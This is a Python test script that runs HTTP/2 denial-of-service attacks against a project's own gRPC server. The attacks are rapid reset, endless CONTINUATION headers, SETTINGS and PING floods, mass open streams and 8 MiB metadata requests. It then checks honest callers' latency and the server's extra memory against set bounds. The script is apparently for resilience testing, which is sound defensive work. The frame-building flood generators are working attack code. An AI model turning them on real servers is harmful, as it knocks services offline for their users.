#!/usr/bin/python3
"""Attacks on HTTP/2 itself, on gRPC's port: the server survives them, and then serves as before.

gRPC 1.51 does not bound what they cost meanwhile (deploy/README.md, HTTP/2), so this prints what honest callers and the
server's memory suffer. With --all, also attacks without acknowledging the server's settings. http2_nginx.py runs the
same attacks on nginx before the server, and has bounds.
"""

import itertools
import time

import attack
import http2

SECONDS = 3
CONNECTIONS = 4
# Streams of one buffer; a connection has 2^30 stream ids, so it never runs out of them.
BATCH = 1000
# Seconds of honest calls after an attack, and the milliseconds that the slowest of a hundred may take then.
AFTER_SECONDS = 1
MOST_AFTER = 1000
# Milliseconds. The slowest of a hundred honest calls behind a proxy may take this time: the attackers use the same
# processors. With processors to spare it is a tenth.
MOST_BESIDE = 1000


def stream_ids():
    return itertools.count(1, 2)


def rapid_reset(headers):
    ids = stream_ids()
    while True:
        yield b"".join(
            http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
            + http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL.to_bytes(4, "big"))
            for stream in itertools.islice(ids, BATCH))


def open_streams(headers):
    ids = stream_ids()
    for _ in range(25):  # 100,000 streams over four connections
        yield b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
                       for stream in itertools.islice(ids, BATCH))


def long_metadata(headers):
    """Requests with 8 MiB of metadata each, in frames of 16 KiB."""
    chunk = http2.field(b"x", b"v" * 16000)
    for stream in stream_ids():
        yield http2.frame(http2.HEADERS, 0, stream, headers)
        for _ in range(8 << 20 >> 14):
            yield http2.frame(http2.CONTINUATION, 0, stream, chunk)
        yield http2.frame(http2.CONTINUATION, http2.END_HEADERS, stream)


def continuation(headers):
    """One request whose header block never ends."""
    yield http2.frame(http2.HEADERS, 0, 1, headers)
    chunk = http2.frame(http2.CONTINUATION, 0, 1, http2.field(b"x", b"v" * 16000)) * 16
    while True:
        yield chunk


def settings(_headers):
    buffer = http2.frame(http2.SETTINGS, 0, 0, b"\0\4\0\1\0\0") * 4000
    while True:
        yield buffer


def ping(_headers):
    buffer = http2.frame(http2.PING, 0, 0, b"12345678") * 4000
    while True:
        yield buffer


ATTACKS = {"open streams": open_streams, "8 MiB of metadata": long_metadata, "PING": ping, "rapid reset": rapid_reset,
           "endless CONTINUATION": continuation, "SETTINGS": settings}


def flood(setting, server, name, port, address, acknowledges=True):
    """Attacks a port while honest callers call at an address. Prints their figures. Returns them, and the MiB that the
    server needed on top."""
    headers = http2.request_headers(setting.contract.path("GetClaim"))
    with server.honest_callers(address) as honest:
        server.forget_peak()
        before = server.rss()
        attackers = http2.Flood(port, CONNECTIONS, lambda: ATTACKS[name](headers), acknowledges)
        time.sleep(SECONDS)
        attackers.end()
        memory = server.peak() - before
        result = honest.result()
    print(f"{name}{'' if acknowledges else ', settings not acknowledged'}: {attackers.sent / (1 << 20):.0f} MiB over "
          f"{attackers.connected} connections; {result['calls']} honest calls, {len(result['failed'])} failed, "
          f"p99 {result['p99']:.0f} ms, longest {result['longest']:.0f} ms; {memory:.0f} MiB more memory", flush=True)
    return result, memory


def check(setting, name, result, memory, most_memory):
    assert not result["failed"], f"honest calls failed under {name}: {result['failed']}"
    setting.bound(f"{name}: p99", result["p99"], MOST_BESIDE, "ms")
    setting.bound(f"{name}: memory on top", memory, most_memory, "MiB")


def run(setting):
    for acknowledges in (True, False) if setting.all else (True,):
        for name in ATTACKS:
            with setting.server() as server:
                flood(setting, server, name, server.grpc_port, server.grpc, acknowledges)
                with server.honest_callers() as honest:
                    time.sleep(AFTER_SECONDS)
                    honest.check(f"after {name}", MOST_AFTER)


if __name__ == "__main__":
    attack.main(__doc__, run)
